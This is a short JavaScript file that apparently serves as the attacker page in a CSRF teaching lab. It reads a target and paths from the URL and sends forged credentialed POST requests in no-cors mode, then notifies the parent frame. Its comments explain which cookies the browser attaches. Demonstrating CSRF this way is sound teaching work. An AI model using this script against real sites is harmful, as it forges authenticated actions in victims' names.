// The CSRF experiment's attacker: a page on another port (the same site), framed by the experiment window. It
// cannot read anything of the lab's, but it can make the browser SEND a request there; the browser decides which
// cookies ride along. `no-cors` is what any page may do without permission: the answer stays opaque to it.
const params = new URLSearchParams(location.search);
const target = params.get('target');
const path = params.get('path');
const also = params.get('also');

async function attack() {
  for (const forged of [path, also]) {
    if (!target || !forged) continue;
    await fetch(`${target}${forged}`, { method: 'POST', credentials: 'include', mode: 'no-cors' }).catch(() => undefined);
  }
  window.parent.postMessage({ attacked: true }, target ?? '*');
}

attack();
